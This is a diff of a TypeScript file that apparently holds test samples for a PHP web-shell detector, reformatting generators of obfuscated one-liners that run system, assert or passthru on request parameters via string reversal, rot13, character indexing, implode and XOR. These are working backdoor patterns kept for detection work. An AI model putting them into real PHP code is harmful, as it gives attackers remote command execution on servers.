@@ -35,7 +35,10 @@ export const HIDDEN: readonly Technique[] = [
       php(`$f = strrev('${reversed(name)}'); echo $f($_GET['x']);`),
       php(`$f = str_rot13('${rot13(name)}'); $f($_REQUEST['x']);`),
       php(
-        `$k = 'abcdefghijklmnopqrstuvwxyz_0123456789'; $f = ${[...name].map(c => `$k[${'abcdefghijklmnopqrstuvwxyz_0123456789'.indexOf(c)}]`).join('.')}; $f($_POST[1]);`,
+        `$k = 'abcdefghijklmnopqrstuvwxyz_0123456789'; $f = ${name
+          .split('')
+          .map(c => `$k[${'abcdefghijklmnopqrstuvwxyz_0123456789'.indexOf(c)}]`)
+          .join('.')}; $f($_POST[1]);`,
       ),
     ]),
     honest: [
@@ -47,10 +50,18 @@ export const HIDDEN: readonly Technique[] = [
     name: 'pieces put together',
     severity: 'confirmed',
     samples: ['system', 'assert', 'passthru'].flatMap(name => [
-      php(`$f = str_replace('#', '', '${[...name].join('#')}'); $f($_GET['x']);`),
-      php(`$f = implode('', array(${[...name].map(c => `'${c}'`).join(', ')})); $f($_POST['x']);`),
+      php(`$f = str_replace('#', '', '${name.split('').join('#')}'); $f($_GET['x']);`),
       php(
-        `$f = ${[...name].map(c => `('${String.fromCharCode(c.charCodeAt(0) ^ 1)}' ^ '${'\\x01'}')`.replaceAll("'\\x01'", '"\\x01"')).join('.')}; $f($_REQUEST['x']);`,
+        `$f = implode('', array(${name
+          .split('')
+          .map(c => `'${c}'`)
+          .join(', ')})); $f($_POST['x']);`,
+      ),
+      php(
+        `$f = ${name
+          .split('')
+          .map(c => `('${String.fromCharCode(c.charCodeAt(0) ^ 1)}' ^ "\\x01")`)
+          .join('.')}; $f($_REQUEST['x']);`,
       ),
     ]),
     honest: [
